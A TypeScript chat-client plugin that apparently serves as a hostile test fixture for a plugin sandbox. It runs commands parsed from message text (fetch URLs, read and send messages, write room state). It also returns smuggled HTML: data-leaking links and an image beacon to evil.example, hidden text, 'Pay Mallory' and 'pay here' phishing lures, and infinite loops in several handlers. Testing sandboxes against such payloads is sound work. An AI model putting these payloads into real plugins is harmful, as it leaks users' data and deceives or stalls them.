import { call, defineProc, KumixError, storage, stream } from '@kumix/plugin/proc';

const get = (url: string) => ({ url, method: 'GET', headers: [] }) as const;
const decoder = new TextDecoder();
const heard: string[] = [];

async function watch(roomId: string): Promise<void> {
  try {
    for await (const { body } of stream('message.watch', { roomId })) heard.push(body);
    heard.push('(ended)');
  } catch (error) {
    heard.push(error instanceof KumixError ? `(${error.code})` : '(?)');
  }
}

/** A person may be asked, and a homeserver takes its time: what becomes of it is heard later. */
async function later(what: string, doing: Promise<unknown>): Promise<void> {
  try {
    heard.push(`${what}: ${JSON.stringify((await doing) ?? null)}`);
  } catch (error) {
    heard.push(`not ${what}: ${error instanceof KumixError ? error.code : '(?)'}`);
  }
}

async function obey(text: string): Promise<string> {
  const [what = '', first = '', second = '', third = ''] = text.split(' ');
  switch (what) {
    case 'fetch': {
      const { status, body } = await call('net.fetch', get(first));
      return `fetched ${status} ${decoder.decode(body).slice(0, 2_000)}`;
    }
    case 'stream': {
      let bytes = 0;
      for await (const { chunk } of stream('net.stream', get(first))) {
        bytes += chunk?.byteLength ?? 0;
        if (second !== '' && bytes >= Number(second)) return `left after ${bytes}`;
      }
      return `streamed ${bytes}`;
    }
    case 'watch':
      void watch(first);
      return 'watching';
    case 'heard':
      return `heard ${heard.join(', ')}`;
    case 'read': {
      const read = await call('message.read', { roomId: first, limit: 20 });
      return `read ${read.length}`;
    }
    case 'unfurl': {
      const preview = await call('unfurl', { url: second, roomId: first });
      const parts = preview?.map(({ name, value }) => `${name}=${value.slice(0, 60)}`);
      return `unfurled ${parts?.join(', ') ?? 'nothing'}`;
    }
    case 'theme': {
      const tokens = first
        .split(';')
        .filter((pair) => pair !== '')
        .map((pair) => ({ name: pair.split('=')[0] ?? '', value: pair.split('=')[1] ?? '' }));
      await call('theme.tokens.provide', { tokens });
      return 'painted';
    }
    case 'keep':
      void later(`kept ${first}`, storage.set('note', first));
      return 'keeping';
    case 'send':
      void later(`sent ${second}`, call('message.send', { roomId: first, body: second }));
      return 'sending';
    case 'state': {
      const place = { roomId: first, type: second, stateKey: '' };
      const doing =
        third === ''
          ? call('room.state.read', place)
          : call('room.state.write', { ...place, content: { said: third } });
      void later(`${third === '' ? 'read' : 'wrote'} ${second}`, doing);
      return 'looking';
    }
    default:
      return text;
  }
}

/** What it makes of a person's words to get something out of the room. */
const smuggled: Readonly<Record<string, string>> = {
  '*by address*': '<em>by</em> address<a href="https://evil.example/?what=was-read"></a>',
  '*by picture*': '<em>by</em> <img src="mxc://evil.example/d2FzIHJlYWQ" alt=" " width="1">',
  '*by other words*': `<p ${'a'.repeat(600)}>Pay Mallory</p>`,
  '*unseen*': '<em title="was read">unseen</em><template>was read</template><!-- was read -->',
};

defineProc({
  'render.markdown': async ({ text }) => {
    const html = smuggled[text];
    if (html !== undefined) return { html };
    try {
      return { html: `<em>${await obey(text)}</em>` };
    } catch (error) {
      if (!(error instanceof KumixError)) throw error;
      const rules = error.because.map(({ rule }) => rule).join(' ');
      return { html: `<em>refused ${error.code} ${rules}: ${error.message}</em>` };
    }
  },
  'command.run': async ({ command, argument, roomId }) => {
    if (command === 'spin') for (;;);
    if (command === 'greet') return { message: `Hello from ${roomId ?? 'no room'}.` };
    return { message: await obey(argument) };
  },
  'render.code': ({ text }) => ({
    spans: text.startsWith('poem') ? [{ start: 0, length: 4, scope: 'keyword' as const }] : [],
  }),
  'render.math': ({ tex }) => ({
    mathml:
      tex === 'evil'
        ? '<math><mi>x</mi></math><p><a href="https://evil.example/">pay here</a></p>'
        : `<math><msup><mi>${tex.charAt(0)}</mi><mn>2</mn></msup></math>`,
  }),
  'message.transform': ({ text }) => {
    if (text.includes('spin')) for (;;);
    return { text: text.replaceAll('teh ', 'the ') };
  },
  async *'attachment.filter'({ name, bytes }) {
    if (name === 'secret.txt') return { verdict: 'refuse', reason: 'It looks like a secret.' };
    if (name !== 'lower.txt') return { verdict: 'keep' };
    yield { chunk: new TextEncoder().encode(decoder.decode(bytes).toUpperCase()).buffer };
    return { verdict: 'replace', name: 'upper.txt' };
  },
});
